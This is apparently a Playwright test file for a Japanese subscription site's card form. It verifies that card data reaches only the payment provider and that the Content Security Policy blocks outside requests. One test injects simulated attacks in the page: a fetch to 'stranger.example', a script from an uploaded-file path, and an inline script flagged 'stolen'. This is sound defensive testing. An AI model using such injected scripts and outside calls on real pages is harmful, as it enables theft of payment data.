import type { Request } from '@playwright/test'
import { expect, test, type Page } from '#test/browser.ts'
import { holdsNumber } from '#test/money/card-secrecy.ts'
import { newCardNumber } from '#test/money/new-card.ts'
import { newPerson } from '#test/people.ts'

const CVC = '7391'

/** From the plans to the card's form, as a person goes. */
async function openCardForm(page: Page) {
  await page.goto('/subscription_orders/new')
  await page.getByRole('radio', { name: /^6ヶ月プラン/ }).check()
  await page
    .getByRole('main')
    .getByRole('button', { name: /^(次へ進む|確認へ進む)$/ })
    .click()
  await page.getByLabel('カード番号').waitFor()
}

async function typeCard(page: Page, number: string) {
  await page.getByLabel('カード番号').fill(number)
  await page.getByLabel('有効期限（月）').selectOption('12')
  await page.getByLabel('有効期限（年）').selectOption({ index: 5 })
  await page.getByLabel('セキュリティコード').fill(CVC)
  await page.getByLabel('カード名義人').fill('TARO EGAKU')
}

const everythingOf = async (request: Request) =>
  JSON.stringify([request.url(), await request.allHeaders(), request.postData() ?? ''])

test('a card’s number and code go from the browser to the provider and to nobody else [CA-005] [CA-010]', async ({
  house,
  signedIn,
}) => {
  const { email } = await newPerson(house)
  const page = await signedIn(email)
  const requests: Request[] = []
  page.on('request', (request) => requests.push(request))
  const number = newCardNumber()

  await openCardForm(page)
  await typeCard(page, number)
  for (const label of ['カード番号', 'セキュリティコード'])
    expect(await page.getByLabel(label).getAttribute('name')).toBeNull()
  await page.getByRole('button', { name: '確認', exact: true }).click()
  await page.getByRole('heading', { level: 1, name: 'お申し込み内容の確認' }).waitFor()
  await page.getByLabel('18歳以上です').check()
  await page.getByRole('button', { name: /^(無料体験を開始する|上記の内容で申し込む)$/ }).click()
  await page.waitForURL('**/subscription_orders/outcome?**')

  const provider = new URL(house.sandbox).origin
  const toProvider = requests.filter((request) => new URL(request.url()).origin === provider)
  const sent = toProvider.map((request) => Object.fromEntries(new URLSearchParams(request.postData() ?? '')))
  expect(sent.map((fields) => Object.keys(fields).toSorted().join(' '))).toEqual([
    'card_expire card_number lang security_code token_api_key',
    'card_expire card_number cardholder_name lang security_code token_api_key',
  ])
  for (const fields of sent) expect(fields).toMatchObject({ security_code: CVC, lang: 'ja' })

  const others = requests.filter((request) => !toProvider.includes(request))
  expect(others.length).toBeGreaterThan(5)
  // Nobody but the school and the provider is asked for anything, from the first page to the last.
  expect([...new Set(others.map((request) => new URL(request.url()).origin))]).toEqual([new URL(house.url).origin])
  for (const request of others) {
    const everything = await everythingOf(request)
    expect(holdsNumber(everything, [number]), request.url()).toEqual([])
    expect(everything.includes(CVC), `the code in ${request.url()}`).toBe(false)
  }
  expect(
    await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, history.state])),
  ).not.toContain(number.slice(-8))
})

test('a card’s form runs the school’s own scripts alone, and can send nothing to strangers [CA-011]', async ({
  house,
  signedIn,
  expectTrouble,
}) => {
  const { email } = await newPerson(house)
  const page = await signedIn(email)
  for (const open of [() => openCardForm(page), () => page.goto('/users/edit_card/form').then(() => {})]) {
    const answered = page.waitForResponse((reply) => /card_form|edit_card\/form/.test(reply.url()) && reply.ok())
    await open()
    const policy = (await answered).headers()['content-security-policy']!
    const rule = (name: string) => policy.split('; ').find((one) => one.startsWith(`${name} `))!
    expect(rule('connect-src')).toBe(`connect-src 'self' ${new URL(house.sandbox).origin}`)
    // Built files, whose names carry their hash, and this page's own few lines by theirs: nothing else.
    expect(
      rule('script-src')
        .split(' ')
        .slice(1)
        .filter((one) => !/^'sha256-[\w+/=]+'$/.test(one)),
    ).toEqual([`${new URL(house.url).host}/assets/`])
    const scripts = await page.evaluate(() => [...document.scripts].map(({ src }) => src).filter(Boolean))
    for (const src of scripts) expect(src).toMatch(/\/assets\/[\w.-]+-[\w-]{8,}\.js$/)
  }

  expectTrouble(/Content Security Policy/)
  const attempts = await page.evaluate(async () => {
    const went = (url: string) =>
      fetch(url).then(
        () => 'went',
        () => 'blocked',
      )
    const script = document.createElement('script')
    script.src = '/files/uploaded.js'
    const loaded = new Promise((done) => {
      script.addEventListener('load', () => done('ran'))
      script.addEventListener('error', () => done('blocked'))
    })
    const inline = document.createElement('script')
    inline.textContent = 'document.documentElement.dataset.stolen = "ran"'
    document.head.append(script, inline)
    return [
      await went('https://stranger.example/?n=1'),
      await loaded,
      document.documentElement.dataset.stolen ?? 'blocked',
    ]
  })
  expect(attempts).toEqual(['blocked', 'blocked', 'blocked'])
})

test('a card’s form that is reached by a link inside a page has its own document, and works [CA-011]', async ({
  house,
  signedIn,
}) => {
  const { email } = await newPerson(house)
  const page = await signedIn(email)
  await page.goto('/subscription_orders/new')
  await page.evaluate(() => ((window as { before?: true }).before = true))
  await page.evaluate(() => {
    type Router = { navigate(path: string): Promise<void> }
    const { __reactRouterDataRouter: router } = window as unknown as { __reactRouterDataRouter: Router }
    void router.navigate('/users/edit_card/form?redirect_to=%2Fcourses')
  })
  await page.getByLabel('カード番号').waitFor()
  expect(new URL(page.url()).search).toBe('?redirect_to=%2Fcourses')
  await typeCard(page, newCardNumber())
  await page.getByRole('button', { name: '確認', exact: true }).click()
  await expect(page.getByText(/411111\*{8}\d\d/).first()).toBeVisible()
  expect(await page.evaluate(() => (window as { before?: true }).before)).toBeUndefined()
})
